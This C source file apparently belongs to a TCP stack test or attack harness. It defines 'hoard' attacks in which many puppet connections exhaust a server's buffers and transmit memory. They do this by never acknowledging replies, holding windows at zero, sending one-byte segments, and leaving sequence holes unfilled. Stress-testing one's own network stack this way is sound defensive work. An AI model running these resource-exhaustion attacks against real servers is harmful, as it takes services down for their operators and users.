/* SPDX-License-Identifier: MIT */
/* A thousand connections that take and do not give: buffers, send ranges,
 * transmit memory. Who has little must still get some. */
#include "attacker.h"

enum { VALUE = 50000, COPIED = 400, FULL_ROUNDS = 20 };

static bool crowd(struct attack *a, uint16_t win, bool acks)
{
	const struct manner how = { .win = win, .ts = true, .acks = acks };

	return puppets_open(a, HOARDERS, &how) ||
	       success(a, "no connection is taken");
}

/* Each asks @times, and from then on again and again. */
static bool ask_all(struct attack *a, uint32_t times)
{
	char buf[MSS];
	uint16_t n = request(a, buf);

	do {
		for (uint32_t i = 0; i < a->npuppets * times && !a->gone; i++)
			puppet_send(a, &a->puppets[i % a->npuppets], 0, buf, n,
				    TCP_ACK | TCP_PSH);
		times = 1;
	} while (more(a));
	return !*a->why;
}

/* Answers are never acknowledged. */
static bool unread(struct attack *a)
{
	return prepare(a, 2000) && crowd(a, 65535, false) && ask_all(a, 4);
}

/* As much as the server takes: its transmit memory. */
static bool unread_full(struct attack *a)
{
	return prepare(a, VALUE) && crowd(a, 65535, false) &&
	       ask_all(a, FULL_ROUNDS);
}

static bool window_zero(struct attack *a)
{
	return prepare(a, 2000) && crowd(a, 0, true) && ask_all(a, 4);
}

/* The same with windows that stay closed and values that are copied, so that
 * little is sent meanwhile, and then nothing more. */
static bool silent(struct attack *a)
{
	const struct manner how = { .ts = true, .acks = true };

	if (!prepare(a, COPIED))
		return false;
	if (puppets_open(a, HOARDERS, &how) < HOARDERS)
		return success(a, "too few connections are taken");
	return ask_all(a, FULL_ROUNDS) && keeps_pace(a);
}

/* One byte each: answers in many pieces, none acknowledged. */
static bool tiny(struct attack *a)
{
	if (!crowd(a, 65535, false))
		return false;
	do {
		for (uint32_t i = 0; i < a->npuppets * 20 && !a->gone; i++)
			puppet_send(a, &a->puppets[i % a->npuppets], 0, "t", 1,
				    TCP_ACK | TCP_PSH);
	} while (more(a));
	return !*a->why;
}

/* Requests that the application cannot read, for the answers to earlier ones
 * are not taken; each byte in a buffer of its own. */
static bool pinned(struct attack *a)
{
	char buf[MSS];
	uint16_t n = request(a, buf);

	if (!prepare(a, VALUE) || !crowd(a, 0, true))
		return false;
	for (uint32_t i = 0; i < a->npuppets && !a->gone; i++)
		puppet_send(a, &a->puppets[i], 0, buf, n, TCP_ACK | TCP_PSH);
	do {
		for (uint32_t i = 0; i < a->npuppets * 20 && !a->gone; i++)
			puppet_send(a, &a->puppets[i % a->npuppets], 0, "g", 1,
				    TCP_ACK | TCP_PSH);
	} while (more(a));
	return !*a->why;
}

/* Segments behind a hole that is never filled, @len bytes each @step. */
static bool holes(struct attack *a, uint16_t len, int32_t step, int32_t each)
{
	do {
		for (int32_t k = 0; k < each && !a->gone; k++)
			for (uint32_t i = 0; i < a->npuppets; i++)
				puppet_send(a, &a->puppets[i], 1 + k * step,
					    NULL, len, TCP_ACK);
	} while (more(a));
	return !*a->why;
}

static bool every_second(struct attack *a)
{
	return crowd(a, 65535, true) && holes(a, 100, 200, 16);
}

static bool overlaps(struct attack *a)
{
	return crowd(a, 65535, true) && holes(a, 1400, 3, 16);
}

/* Backwards, so that each finds its place last; and the window full of them. */
static bool every_second_byte(struct attack *a)
{
	const struct manner how = { .win = 65535, .ts = true, .acks = true };

	if (!puppets_open(a, 16, &how))
		return success(a, "no connection is taken");
	do {
		for (int32_t k = 700; k > 0 && !a->gone; k--)
			for (uint32_t i = 0; i < a->npuppets; i++)
				puppet_send(a, &a->puppets[i], 2 * k, "o", 1,
					    TCP_ACK);
		for (int32_t k = 1; k <= 700 && !a->gone; k++)
			for (uint32_t i = 0; i < a->npuppets; i++)
				puppet_send(a, &a->puppets[i], 2 * k, "o", 1,
					    TCP_ACK);
	} while (more(a));
	return !*a->why;
}

const struct attack_kind attacks_hoard[] = {
	{ "hoard_unread", unread, ON_BOTH | ON_ECHO6 },
	{ "hoard_unread_full", unread_full, ON_BOTH | ON_ECHO6 },
	{ "hoard_silent", silent, ON_KV },
	{ "hoard_window_zero", window_zero, ON_BOTH | ON_ECHO6 },
	{ "hoard_tiny", tiny, ON_BOTH | ON_ECHO6 },
	{ "hoard_pinned", pinned, ON_BOTH | ON_ECHO6 },
	{ "hoard_every_second", every_second, ON_BOTH | ON_ECHO6 },
	{ "hoard_overlaps", overlaps, ON_ECHO | ON_ECHO6 },
	{ "hoard_every_second_byte", every_second_byte, ON_ECHO | ON_ECHO6 },
	{ 0 },
};
